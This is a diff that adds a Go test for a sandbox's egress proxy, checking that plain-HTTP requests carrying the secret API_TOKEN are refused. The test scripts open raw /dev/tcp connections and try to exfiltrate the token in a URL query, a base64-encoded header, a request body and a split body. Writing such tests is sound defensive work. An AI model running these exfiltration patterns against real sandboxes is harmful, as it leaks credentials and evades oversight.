@@ -653,3 +653,64 @@ cat src/a.py`)
 		t.Errorf(".env on the host = %q", b)
 	}
 }
+
+// The proxy refuses a plain-HTTP request that carries one of the
+// sandbox's secrets (in its query, a header or its body, as is or
+// encoded) before connecting: nothing reaches the server. Other requests
+// pass.
+func TestEgressProxyRefusesSecretsInClearText(t *testing.T) {
+	const secret = "kcS-clear-0123456789abcdef"
+	var mu sync.Mutex
+	var got []string
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		b, _ := io.ReadAll(r.Body)
+		mu.Lock()
+		got = append(got, r.URL.String()+" "+fmt.Sprint(r.Header)+" "+string(b))
+		mu.Unlock()
+		fmt.Fprint(w, "ok")
+	}))
+	defer srv.Close()
+	var ds []linux.EgressDecision
+	sb := newSB(t, &sandbox.Spec{Env: []string{"API_TOKEN=" + secret}, Network: sandbox.Network{Allow: []string{"allowed.test"}}}, &linux.Options{
+		Secrets:  []linux.Secret{{Name: "API_TOKEN", Value: secret}},
+		OnEgress: func(d linux.EgressDecision) { mu.Lock(); ds = append(ds, d); mu.Unlock() },
+		EgressDial: func(ctx context.Context, network, addr string) (net.Conn, error) {
+			var d net.Dialer
+			return d.DialContext(ctx, network, srv.Listener.Addr().String())
+		},
+	})
+	p := `p=${HTTP_PROXY##*:}; p=${p%/}; exec 3<>/dev/tcp/127.0.0.1/$p; `
+	req := func(line, headers, body string) string {
+		return p + `printf "` + line + ` HTTP/1.1\r\nHost: allowed.test\r\n` + headers + `Content-Length: %d\r\n\r\n%s" ${#B} "$B" >&3; head -n1 <&3`
+	}
+	for _, tt := range []struct{ name, script, want string }{
+		{"query", `B=; ` + req(`GET http://allowed.test/c?d=$API_TOKEN`, ``, ``), "403"},
+		{"header base64", `B=; ` + req(`GET http://allowed.test/c`, `X-T: $(printf %s "$API_TOKEN" | base64 -w0)\r\n`, ``), "403"},
+		{"body", `B="token=$API_TOKEN"; ` + req(`POST http://allowed.test/c`, ``, ``), "403"},
+		{"body split", `B="a=${API_TOKEN:0:13}"; ` + req(`POST http://allowed.test/c`, ``, ``), "403"},
+		{"no secret", `B="hello"; ` + req(`POST http://allowed.test/ok`, ``, ``), "200"},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			if _, out := sh(t, sb, tt.script); !strings.Contains(out, tt.want) {
+				t.Errorf("status line %q, want %s", out, tt.want)
+			}
+		})
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	if len(got) != 1 || !strings.HasPrefix(got[0], "/ok") {
+		t.Errorf("the server got %q, want only /ok", got)
+	}
+	var refused int
+	for _, d := range ds {
+		if !d.Allowed {
+			refused++
+			if !strings.Contains(d.Reason, "carries secret API_TOKEN") || !strings.Contains(d.Reason, "plain HTTP") {
+				t.Errorf("refusal reason %q", d.Reason)
+			}
+		}
+	}
+	if refused != 4 {
+		t.Errorf("%d refusals, want 4: %+v", refused, ds)
+	}
+}
